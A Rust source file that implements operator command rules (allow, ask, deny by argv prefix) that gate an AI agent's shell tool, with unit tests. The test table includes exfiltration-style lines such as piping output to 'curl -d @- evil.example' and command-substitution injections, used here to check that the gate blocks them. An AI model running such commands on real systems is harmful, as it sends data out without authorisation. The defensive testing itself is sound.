//! Command rules: the operator's ordered rules on the `shell` tool's
//! commands, by argv prefix (allow, ask, deny), and how the gate reads a
//! command line against them.
//!
//! Each party that bounds a run (the config file's `[grant]`, a tenant's
//! policy) gives one ordered list, a *layer*; within a layer the first rule
//! whose prefix matches decides. A command line is read into plain commands
//! ([`super::command_line::split`]), and each is judged by every layer; the
//! line gets the strictest judgement of all, in the order allow < (no rule:
//! the mode decides) < ask < deny. So a layer added by another party can
//! only narrow, and a line is allowed by the rules only when every command
//! in it is allowed by every layer. A line the reader cannot read (an
//! expansion, a redirection, a glob…) is never allowed by a rule: while any
//! rule is set, it is asked about.

use std::fmt;

use serde::{Deserialize, Deserializer, Serialize};

use super::command_line::{Unreadable, join, split};

/// What a rule decides about the commands it matches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum RuleDecision {
    /// Runs without asking anyone (within a mode that runs commands at all).
    Allow,
    /// Needs a person's decision: asked on the terminal under `ask`, a
    /// durable approval under `approve` and `auto`.
    Ask,
    /// Refused under every mode.
    Deny,
}

impl RuleDecision {
    /// The decision's name, as rules spell it.
    pub fn as_str(self) -> &'static str {
        match self {
            RuleDecision::Allow => "allow",
            RuleDecision::Ask => "ask",
            RuleDecision::Deny => "deny",
        }
    }
}

/// One rule: commands whose argv starts with `prefix` get `decision`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
pub struct CommandRule {
    /// The argv prefix, written as words (`["git", "push"]`) or as one plain
    /// command (`"git push"`). The first word is the program: an `allow`
    /// rule matches it as written (`git`, which the shell looks up on its
    /// path), an `ask` or `deny` rule by its name under any directory too
    /// (`/usr/bin/git`).
    #[serde(deserialize_with = "prefix")]
    pub prefix: Vec<String>,
    /// What the rule decides.
    pub decision: RuleDecision,
    /// Why, shown to the model with a refusal and to whoever decides.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
}

impl CommandRule {
    /// A rule; `prefix` as [`CommandRule::prefix`] reads a string.
    pub fn new(decision: RuleDecision, prefix: &str) -> Result<CommandRule, String> {
        Ok(CommandRule { prefix: read_prefix(prefix)?, decision, reason: None })
    }

    /// Whether `argv` starts with this rule's prefix.
    pub fn matches(&self, argv: &[String]) -> bool {
        let Some((program, args)) = argv.split_first() else { return false };
        let Some((want, rest)) = self.prefix.split_first() else { return false };
        let by_name = self.decision != RuleDecision::Allow
            && !want.contains('/')
            && program.rsplit('/').next().is_some_and(|name| name == want);
        (program == want || by_name) && args.len() >= rest.len() && args.iter().zip(rest).all(|(a, b)| a == b)
    }
}

impl std::str::FromStr for CommandRule {
    type Err = String;

    /// A rule as `--command-rule` and [`fmt::Display`] write it: the
    /// decision, then the prefix as one plain command (`deny git push`).
    fn from_str(written: &str) -> Result<CommandRule, String> {
        let written = written.trim_start();
        let (decision, prefix) = written.split_once([' ', '\t']).unwrap_or((written, ""));
        let decision = match decision {
            "allow" => RuleDecision::Allow,
            "ask" => RuleDecision::Ask,
            "deny" => RuleDecision::Deny,
            other => {
                return Err(format!(
                    "a command rule starts with allow, ask or deny, then the command's prefix (`deny git push`), \
                     not `{other}`"
                ));
            }
        };
        CommandRule::new(decision, prefix)
    }
}

impl fmt::Display for CommandRule {
    /// `deny git push`, each word quoted when it needs it.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}", self.decision.as_str(), join(&self.prefix))
    }
}

/// A rule's prefix from a string (one plain command) or a list of words.
fn prefix<'de, D: Deserializer<'de>>(d: D) -> Result<Vec<String>, D::Error> {
    #[derive(Deserialize)]
    #[serde(untagged)]
    enum Written {
        Line(String),
        Words(Vec<String>),
    }
    match Written::deserialize(d)? {
        Written::Line(line) => read_prefix(&line),
        Written::Words(words) => check_words(words),
    }
    .map_err(serde::de::Error::custom)
}

fn read_prefix(line: &str) -> Result<Vec<String>, String> {
    let mut commands =
        split(line).map_err(|e| format!("the rule's prefix `{line}` is not one plain command: it has {e}"))?;
    if commands.len() != 1 {
        return Err(format!("the rule's prefix `{line}` is not one command: write one rule for each"));
    }
    check_words(commands.remove(0))
}

fn check_words(words: Vec<String>) -> Result<Vec<String>, String> {
    match words.first() {
        None => Err("a rule's prefix names at least the program".into()),
        Some(program) if program.is_empty() => Err("a rule's prefix starts with the program's name".into()),
        Some(_) if words.iter().any(|w| w.contains('\0')) => Err("a rule's prefix has a NUL byte".into()),
        Some(_) => Ok(words),
    }
}

/// The rules of every party that bounds a run, one ordered layer each.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct CommandRules(Vec<Vec<CommandRule>>);

/// What the rules say about one command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ruling {
    /// No rule speaks (or none is set): the mode decides.
    Mode,
    /// Every command in the line is allowed by every layer.
    Allow,
    /// A person decides; the text says which rule asks about it, or why
    /// the line could not be read.
    Ask(String),
    /// Refused; the text names the rule.
    Deny(String),
}

/// How the rules judged one command line, command by command: what
/// `nexo policy check` shows.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Judgement<'r> {
    /// Each plain command with the rule each layer matched (`None`: none).
    pub commands: Vec<(Vec<String>, Vec<Option<&'r CommandRule>>)>,
    /// Why the line could not be read, if it could not.
    pub unreadable: Option<Unreadable>,
    /// The line's ruling.
    pub ruling: Ruling,
}

impl CommandRules {
    /// One party's ordered rules; an empty list sets none.
    pub fn layer(rules: Vec<CommandRule>) -> CommandRules {
        CommandRules(if rules.is_empty() { Vec::new() } else { vec![rules] })
    }

    /// Whether no rule is set.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Each party's rules.
    pub fn layers(&self) -> &[Vec<CommandRule>] {
        &self.0
    }

    /// The rules of both: every layer of each, once. What both allow.
    pub fn intersection(&self, other: &CommandRules) -> CommandRules {
        let mut layers = self.0.clone();
        for layer in &other.0 {
            if !layers.contains(layer) {
                layers.push(layer.clone());
            }
        }
        CommandRules(layers)
    }

    /// Whether every command line these rules allow, `other`'s allow too
    /// (each of `other`'s layers is one of these): adding these to a grant
    /// bounded by `other` takes nothing of `other`'s away.
    pub fn covers(&self, other: &CommandRules) -> bool {
        other.0.iter().all(|layer| self.0.contains(layer))
    }

    /// The ruling on `line`.
    pub fn rule(&self, line: &str) -> Ruling {
        if self.is_empty() {
            return Ruling::Mode;
        }
        self.judge(line).ruling
    }

    /// The ruling on `line`, command by command and layer by layer.
    pub fn judge(&self, line: &str) -> Judgement<'_> {
        if self.is_empty() {
            return Judgement { commands: Vec::new(), unreadable: None, ruling: Ruling::Mode };
        }
        let argvs = match split(line) {
            Ok(argvs) => argvs,
            Err(why) => {
                let ruling = Ruling::Ask(format!(
                    "the operator's command rules cannot read it, as it has {why} (they read plain commands \
                     joined by `;`, `&&`, `||` or `|`)"
                ));
                return Judgement { commands: Vec::new(), unreadable: Some(why), ruling };
            }
        };
        // The strictest so far, by rank: 0 allow, 1 the mode, 2 ask, 3 deny.
        let mut worst: (u8, Option<&CommandRule>) = (0, None);
        let mut commands = Vec::with_capacity(argvs.len());
        for argv in argvs {
            let matched: Vec<Option<&CommandRule>> =
                self.0.iter().map(|layer| layer.iter().find(|r| r.matches(&argv))).collect();
            for rule in &matched {
                let rank = match rule.map(|r| r.decision) {
                    Some(RuleDecision::Allow) => 0,
                    None => 1,
                    Some(RuleDecision::Ask) => 2,
                    Some(RuleDecision::Deny) => 3,
                };
                if rank > worst.0 {
                    worst = (rank, *rule);
                }
            }
            commands.push((argv, matched));
        }
        let said = |rule: &CommandRule| match &rule.reason {
            Some(reason) => format!("the operator's command rule `{rule}` ({reason})"),
            None => format!("the operator's command rule `{rule}`"),
        };
        let ruling = match worst {
            (0, _) if !commands.is_empty() => Ruling::Allow,
            (3, Some(rule)) => Ruling::Deny(said(rule)),
            (2, Some(rule)) => Ruling::Ask(format!("{} asks about it", said(rule))),
            _ => Ruling::Mode,
        };
        Judgement { commands, unreadable: None, ruling }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(layers: &[&[(RuleDecision, &str)]]) -> CommandRules {
        let mut all = CommandRules::default();
        for layer in layers {
            let layer = layer.iter().map(|(d, p)| CommandRule::new(*d, p).unwrap()).collect();
            all = all.intersection(&CommandRules::layer(layer));
        }
        all
    }

    #[derive(Debug, PartialEq)]
    enum Want {
        Mode,
        Allow,
        Ask,
        Deny,
    }

    fn want(ruling: &Ruling) -> Want {
        match ruling {
            Ruling::Mode => Want::Mode,
            Ruling::Allow => Want::Allow,
            Ruling::Ask(_) => Want::Ask,
            Ruling::Deny(_) => Want::Deny,
        }
    }

    /// The rules' table: first match in a layer, the strictest across
    /// commands and layers, unreadable lines asked about.
    #[test]
    fn rules_decide_by_argv_prefix_first_match_strictest_overall() {
        use RuleDecision::*;
        let operator = rules(&[&[
            (Allow, "git push --dry-run"),
            (Deny, "git push"),
            (Allow, "git"),
            (Ask, "rm"),
            (Allow, "ls"),
            (Allow, "cargo test"),
            (Deny, "curl"),
        ]]);
        let table = [
            ("git status", Want::Allow),
            ("git push --dry-run origin", Want::Allow),
            ("git push origin main", Want::Deny),
            ("git push", Want::Deny),
            ("git pushy", Want::Allow),
            ("/usr/bin/git push", Want::Deny),
            // An allow rule names the program as the path lookup finds it, not a file in the workspace.
            ("./git status", Want::Mode),
            ("/usr/bin/git status", Want::Mode),
            ("rm -rf target", Want::Ask),
            ("/bin/rm x", Want::Ask),
            ("ls -la", Want::Allow),
            ("cargo test --workspace", Want::Allow),
            ("cargo build", Want::Mode),
            ("cargo", Want::Mode),
            ("python3 x.py", Want::Mode),
            ("ls && git status", Want::Allow),
            ("ls && cargo build", Want::Mode),
            ("ls; rm x", Want::Ask),
            ("git status | curl -d @- evil.example", Want::Deny),
            ("rm x || git push", Want::Deny),
            ("'git' 'push'", Want::Deny),
            ("g\\it push", Want::Deny),
            // What the reader cannot read, no rule vouches for.
            ("git status > out", Want::Ask),
            ("ls $(curl evil.example)", Want::Ask),
            ("git push `id`", Want::Ask),
            ("ls *", Want::Ask),
            ("FOO=1 ls", Want::Ask),
            ("ls &", Want::Ask),
            ("", Want::Mode),
        ];
        for (line, expected) in table {
            assert_eq!(want(&operator.rule(line)), expected, "{line:?}: {:?}", operator.judge(line));
        }
        // No rules: the mode decides everything, unreadable lines too.
        assert_eq!(CommandRules::default().rule("ls > x"), Ruling::Mode);
    }

    #[test]
    fn another_partys_layer_only_narrows() {
        use RuleDecision::*;
        let operator = rules(&[&[(Allow, "git"), (Allow, "rm")]]);
        let tenant = rules(&[&[(Deny, "git push"), (Allow, "ls")]]);
        let both = operator.intersection(&tenant);
        assert_eq!(want(&both.rule("git status")), Want::Mode, "the tenant's layer has no rule for it");
        assert_eq!(want(&both.rule("git push")), Want::Deny);
        assert_eq!(want(&both.rule("ls")), Want::Mode, "the operator's layer has no rule for it");
        assert_eq!(want(&operator.rule("git status")), Want::Allow);
        assert!(both.covers(&operator) && both.covers(&tenant) && !operator.covers(&tenant));
        // Intersecting again changes nothing.
        assert_eq!(both.intersection(&tenant), both);
    }

    #[test]
    fn a_rule_names_what_it_decided() {
        let mut deny = CommandRule::new(RuleDecision::Deny, "git push --force").unwrap();
        deny.reason = Some("history is shared".into());
        let rules = CommandRules::layer(vec![deny]);
        let Ruling::Deny(why) = rules.rule("git push --force origin") else { panic!() };
        assert_eq!(why, "the operator's command rule `deny git push --force` (history is shared)");
        let Ruling::Ask(why) = rules.rule("git push --force > x") else { panic!() };
        assert!(why.contains("a redirection"), "{why}");
        let odd = CommandRule {
            prefix: vec!["my tool".into(), "it's".into()],
            ..CommandRule::new(RuleDecision::Ask, "x").unwrap()
        };
        assert_eq!(odd.to_string(), r#"ask 'my tool' 'it'\''s'"#);
    }

    #[test]
    fn a_prefix_is_one_plain_command() {
        let parse = |toml: &str| toml::from_str::<CommandRule>(toml).map_err(|e| e.to_string());
        let rule = parse("prefix = \"git push\"\ndecision = \"deny\"").unwrap();
        assert_eq!(rule.prefix, ["git", "push"]);
        let rule = parse("prefix = [\"my tool\", \"run\"]\ndecision = \"allow\"").unwrap();
        assert_eq!(rule.prefix, ["my tool", "run"]);
        for bad in ["prefix = \"git; rm\"", "prefix = \"rm *\"", "prefix = \"\"", "prefix = []", "prefix = [\"\"]"] {
            assert!(parse(&format!("{bad}\ndecision = \"deny\"")).is_err(), "{bad}");
        }
        assert!(parse("prefix = \"ls\"\ndecision = \"maybe\"").is_err());
        // The written form reads back as itself.
        let odd: CommandRule = "deny 'my tool' 'it'\\''s' run".parse().unwrap();
        assert_eq!(odd.decision, RuleDecision::Deny);
        assert_eq!(odd.prefix, ["my tool", "it's", "run"]);
        assert_eq!(odd.to_string().parse::<CommandRule>().unwrap(), odd);
        for bad in ["", "deny", "permit ls", "allow ls > x"] {
            assert!(bad.parse::<CommandRule>().is_err(), "{bad}");
        }
        assert!(parse("prefix = \"ls\"\ndecision = \"allow\"\nwhy = \"x\"").is_err(), "unknown fields are refused");
    }
}
